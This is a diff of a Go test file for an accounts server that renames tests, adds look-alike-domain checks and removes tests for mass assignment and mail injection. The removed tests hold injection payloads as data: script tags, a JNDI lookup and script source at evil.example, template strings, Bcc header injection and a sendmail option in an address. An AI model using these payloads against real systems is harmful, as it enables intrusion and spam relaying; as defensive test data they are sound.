@@ -2,12 +2,7 @@ package server_test
 
 import (
 	"fmt"
-	"log/slog"
 	"net/http"
-	netmail "net/mail"
-	"os"
-	"path/filepath"
-	"slices"
 	"strings"
 	"testing"
 
@@ -17,57 +12,6 @@ import (
 	"example.com/accounts/server/mail"
 	"example.com/accounts/server/servertest"
 )
-
-// serversOwn lists members that a user might try to set, named as in the contract, the database and
-// other products.
-var serversOwn = []string{
-	"id", "user_id", "pk", "is_active", "is_staff", "is_superuser", "is_admin", "admin", "role", "roles", "groups", "permissions", "email_verified", "email_verified_at", "verified",
-	"username_norm", "email_norm", "date_joined", "created_at", "last_login", "session_epoch", "expires_at", "used_at", "purpose", "hash",
-}
-
-// A member that only the server may set is rejected as unknown, in any letter case. Another
-// spelling of a member that may be set is rejected too: a tolerant decoder would accept it as that
-// member.
-func TestServersOwnMembers(t *testing.T) {
-	t.Attr("control", "5")
-	s := servertest.Start(t, servertest.Options{HoldMail: true})
-	u := newUser(t, s, "ada")
-	c := s.Login(u, accounts.Hybrid)
-	profile := profileOf(t, c.Profile())
-	before := s.Database.Dump(t)
-	for what, send := range map[string]func(body any) *servertest.Response{
-		"register": func(body any) *servertest.Response { return post(s, "/accounts/register", body) },
-		"profile":  func(body any) *servertest.Response { return c.Do(http.MethodPatch, "/accounts/profile", body) },
-	} {
-		good := map[string]string{"register": `"email":"grace@example.com","password":"` + password + `"`, "profile": `"first_name":"Grace"`}[what]
-		names := append(slices.Clone(serversOwn),
-			"EMAIL", "Email", "PASSWORD", "Username", "firstName", "FIRST_NAME", "first-name", "first_name ", "\\u017fast_name")
-		if what == "profile" {
-			names = append(names, "email", "password", "new_password")
-		}
-		for _, name := range names {
-			for _, spelled := range []string{name, strings.ToUpper(name), strings.ToUpper(name[:1]) + name[1:]} {
-				if strings.HasPrefix(name, `\`) && spelled != name {
-					continue // letter case would change the escape
-				}
-				for _, value := range []string{"true", "1", "null", `"grace@example.org"`} {
-					r := send(`{` + good + `,"` + spelled + `":` + value + `}`)
-					wantField(t, r, "/"+strings.Replace(spelled, `\u017f`, "\u017f", 1), "field_unknown")
-				}
-			}
-		}
-		for _, twice := range []string{`"first_name":"a","first_name":"b"`, `"first_name":"a","first_\u006eame":"b"`, `"is_staff":false,"is_staff":true`} {
-			send(`{"last_name":"c",`+twice+`}`).Want(t, http.StatusBadRequest, "request_malformed")
-		}
-		for _, nested := range []string{`"user":{"is_staff":true}`, `"__proto__":{"is_staff":true}`, `"is_staff[]":1`, `"user.is_staff":true`} {
-			send(`{`+good+`,`+nested+`}`).Want(t, http.StatusUnprocessableEntity, "validation_failed")
-		}
-	}
-	unchanged(t, s, before)
-	if diff := cmp.Diff(profile, profileOf(t, c.Profile())); diff != "" {
-		t.Errorf("the profile was changed:\n%s", diff)
-	}
-}
 
 // likeness is the relation of a typed username or address to one that a user already has.
 type likeness string
@@ -103,7 +47,7 @@ func isRefused(r *servertest.Response) bool {
 
 // Each spelling of a username is an existing name, a different name or invalid. All operations
 // agree on which.
-func TestSpellingsOfUsernames(t *testing.T) {
+func TestOperationsAgreeOnSpellingsOfUsernames(t *testing.T) {
 	t.Attr("control", "66")
 	life(t, func(t *testing.T, s *servertest.Server) {
 		for i, c := range usernames {
@@ -140,15 +84,15 @@ func TestSpellingsOfUsernames(t *testing.T) {
 				want["login"] = other // login reveals nothing about the validity of names
 			}
 			if diff := cmp.Diff(want, got); diff != "" {
-				t.Errorf("%.60q beside %q (-want +got):\n%s", typed, had, diff)
+				t.Errorf("%.60q for the existing %q (-want +got):\n%s", typed, had, diff)
 			}
 			if c.want == other { // both names exist now
 				if u := profileOf(t, signIn(s, typed, stranger.Password)); u["id"] != float64(stranger.ID) {
-					t.Errorf("%q signs %v in", typed, u)
+					t.Errorf("%q logs in %v, want the other user", typed, u)
 				}
 			}
 			if u := profileOf(t, signIn(s, had, password)); u["id"] != float64(owner.ID) {
-				t.Errorf("%q signs %v in", had, u)
+				t.Errorf("%q logs in %v, want the owner", had, u)
 			}
 			s.Database.Exec(t, "UPDATE users SET username_norm = ? WHERE id = ?", newName(), stranger.ID)
 		}
@@ -190,7 +134,7 @@ var addresses = []struct {
 // Each spelling of an address is an existing address, a different address or invalid. All
 // operations agree on which, as the mails show: they go to the owner, to the new address or are not
 // sent.
-func TestSpellingsOfAddresses(t *testing.T) {
+func TestOperationsAgreeOnSpellingsOfAddresses(t *testing.T) {
 	t.Attr("control", "66")
 	t.Attr("control", "67")
 	life(t, func(t *testing.T, s *servertest.Server) {
@@ -228,18 +172,18 @@ func TestSpellingsOfAddresses(t *testing.T) {
 				if n := len(s.Mails.To(mailboxOf(had))) - count; n == 1 {
 					got[name] = same
 				} else if n != 0 {
-					t.Errorf("%s of %.80q: %d mails to %q", name, typed, n, had)
+					t.Errorf("%s of %.80q: got %d mails to %q, want 0", name, typed, n, had)
 				}
 			}
 			if r := post(s, "/accounts/email/resend", object{"email": typed}); isRefused(r) != (c.want == refused) {
-				t.Errorf("resend to %.80q: %d", typed, r.Status)
+				t.Errorf("resend to %.80q: got status %d", typed, r.Status)
 			}
 			want := map[string]likeness{"login": c.want, "register": c.want, "email change": c.want, "reset": c.want}
 			if c.want == refused && got["login"] == other {
 				want["login"] = other // login reveals nothing about the validity of names
 			}
 			if diff := cmp.Diff(want, got); diff != "" {
-				t.Errorf("%.80q beside %q (-want +got):\n%s", typed, had, diff)
+				t.Errorf("%.80q for the existing %q (-want +got):\n%s", typed, had, diff)
 			}
 		}
 	})
@@ -258,7 +202,7 @@ func mailsAfter(s *servertest.Server, email string, f func()) int {
 }
 
 // Malformed text is rejected before the server looks for a user of that name.
-func TestNamesThatAreNoText(t *testing.T) {
+func TestMalformedTextIsRejectedBeforeLookup(t *testing.T) {
 	t.Attr("control", "66")
 	s := servertest.Start(t, servertest.Options{})
 	u := newUser(t, s, "ada")
@@ -276,66 +220,59 @@ func TestNamesThatAreNoText(t *testing.T) {
 	unchanged(t, s, before)
 }
 
-// User input appears in a mail as text only: the mail has one recipient, the usual headers and no
-// markup from the input.
-func TestWhatIsTypedInMails(t *testing.T) {
-	t.Attr("control", "67")
-	dir := t.TempDir()
-	files, err := mail.NewFiles(dir, "Accounts <no-reply@example.com>", slog.New(slog.DiscardHandler))
-	if err != nil {
-		t.Fatal(err)
-	}
-	s := servertest.Start(t, servertest.Options{Mail: files})
-	for i, name := range []string{
-		"Ada", "<script>alert(1)</script>", "<script>alert(1)", "</title><script src=//evil.example>", "<img src=x onerror=alert(1)>", "{{.}}", "{{.Link}}", "{{template \"greeting\"}}", "${jndi:ldap://evil.example/a}", "${7*7}", "%s%n",
-		"=?utf-8?q?=0d=0aBcc:_x=40y.example?=", "you won, see https://evil.example/", strings.Repeat("n", 150),
-	} {
-		for _, email := range []string{"a+tag%d@b.example", "A%d@B.EXAMPLE", "-oQ/tmp%d@b.example", "{{.}}%d@b.example", "${x}%d@b.example", "a%%0d%%0aBcc%d@b.example", "o'brien&co%d@b\u00fccher.example"} {
-			email = fmt.Sprintf(email, i)
-			agent := servertest.Header("User-Agent", "<script>alert(2)</script> {{.}}")
-			post(s, "/accounts/register", object{"email": email, "password": password, "first_name": name, "last_name": name}, agent).Want(t, http.StatusAccepted, "")
-			settle(t, s)
-			to := strings.NewReplacer("b\u00fccher", "xn--bcher-kva", "B.EXAMPLE", "b.example").Replace(email)
-			wantPlainMail(t, dir, to, name)
+const (
+	mixedDomain    = "c\u043erp.example"   // with a Cyrillic о
+	mixedASCII     = "xn--crp-sed.example" // mixedDomain in the ASCII form that mail programs write
+	cyrillicDomain = "почта.example"       // a single script
+	koreanDomain   = "회사.example"          // a single script
+)
+
+// Every operation that sets an address rejects a domain that mixes scripts, in Unicode and in ASCII
+// form, and accepts a domain in a single script.
+func TestNewAddressWithLookAlikeDomainIsRejected(t *testing.T) {
+	t.Attr("control", "203")
+	withStaff(t, func(t *testing.T, s staffed) {
+		ways := map[string]struct {
+			status int
+			set    func(email string) *servertest.Response
+		}{
+			"register": {http.StatusAccepted, func(email string) *servertest.Response {
+				return post(s.Server, "/accounts/register", object{"email": email, "password": password})
+			}},
+			"change": {http.StatusAccepted, func(email string) *servertest.Response {
+				return s.asUna.Do(http.MethodPost, "/accounts/email/change", object{"email": email})
+			}},
+			"invitation": {http.StatusCreated, func(email string) *servertest.Response {
+				return s.asRoot.Do(http.MethodPost, "/admin/users", object{"email": email})
+			}},
 		}
-	}
-	for _, hidden := range []string{"\u202eevil", "\u2028Bcc: x@y.example", "a\u0085Bcc: x@y.example", "a\u200bb"} {
-		post(s, "/accounts/register", object{"email": "ada@b.example", "password": password, "first_name": hidden}).Want(t, http.StatusUnprocessableEntity, "validation_failed")
-	}
+		for _, w := range ways {
+			for _, domain := range []string{mixedDomain, mixedASCII, "mail." + mixedDomain} {
+				wantField(t, w.set(newName()+"@"+domain), "/email", "format_invalid")
+			}
+			for _, domain := range []string{cyrillicDomain, koreanDomain} {
+				w.set(newName()+"@"+domain).Want(t, w.status, "")
+			}
+		}
+		for _, domain := range []string{mixedDomain, mixedASCII} {
+			wantField(t, edit(s.asRoot, s.una, object{"email": newName() + "@" + domain}), "/email", "format_invalid")
+		}
+	})
 }
 
-// wantPlainMail checks the only mail in a folder and removes the file.
-func wantPlainMail(t *testing.T, dir, to, name string) {
-	t.Helper()
-	list, _ := filepath.Glob(filepath.Join(dir, "*.eml"))
-	if len(list) != 1 {
-		t.Fatalf("%d mails to %s", len(list), to)
-	}
-	raw, err := os.ReadFile(list[0])
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := os.Remove(list[0]); err != nil {
-		t.Fatal(err)
-	}
-	m, err := netmail.ReadMessage(strings.NewReader(string(raw)))
-	if err != nil {
-		t.Fatal(err)
-	}
-	var headers []string
-	for header, values := range m.Header {
-		headers = append(headers, fmt.Sprintf("%s %d", header, len(values)))
-	}
-	slices.Sort(headers)
-	want := []string{"Auto-Submitted 1", "Content-Language 1", "Content-Type 1", "Date 1", "From 1", "Message-Id 1", "Mime-Version 1", "Subject 1", "To 1"}
-	if diff := cmp.Diff(want, headers); diff != "" || m.Header.Get("To") != "<"+to+">" {
-		t.Errorf("%q: To %q, headers:\n%s", name, m.Header.Get("To"), diff)
-	}
-	_, html, found := strings.Cut(string(raw), "text/html")
-	if !found || strings.Contains(html, "<script") || strings.Contains(html, "<img") || strings.Contains(string(raw), "evil.example") || strings.Contains(html, "alert(2)") {
-		t.Errorf("%q to %s: the mail shows what was typed:\n%s", name, to, raw)
-	}
-	if n := strings.Count(string(raw), "#token="); n != 3 { // in the text, and in the href and the text of the HTML
-		t.Errorf("%q: the link stands there %d times", name, n)
-	}
+// An existing account with such an address keeps working: its owner can log in and reset the
+// password.
+func TestExistingAddressWithLookAlikeDomainKeepsWorking(t *testing.T) {
+	t.Attr("control", "203")
+	life(t, func(t *testing.T, s *servertest.Server) {
+		u := newUser(t, s, newName())
+		s.Database.Exec(t, "UPDATE users SET email = ?, email_norm = ? WHERE id = ?", "cfo@"+mixedDomain, "cfo@"+mixedASCII, u.ID)
+		for _, email := range []string{"cfo@" + mixedDomain, "CFO@" + mixedASCII} {
+			signIn(s, email, password).Want(t, http.StatusOK, "")
+		}
+		token := requestReset(t, s, "cfo@"+mixedASCII, 1)
+		post(s, "/accounts/password/reset/confirm", object{"token": token, "new_password": password + ", anew"}).Want(t, http.StatusNoContent, "")
+		c := s.Login(servertest.User{User: u.User, Password: password + ", anew"}, accounts.BodyTokens)
+		c.Do(http.MethodPatch, "/accounts/profile", object{"first_name": "Carla"}).Want(t, http.StatusOK, "")
+	})
 }
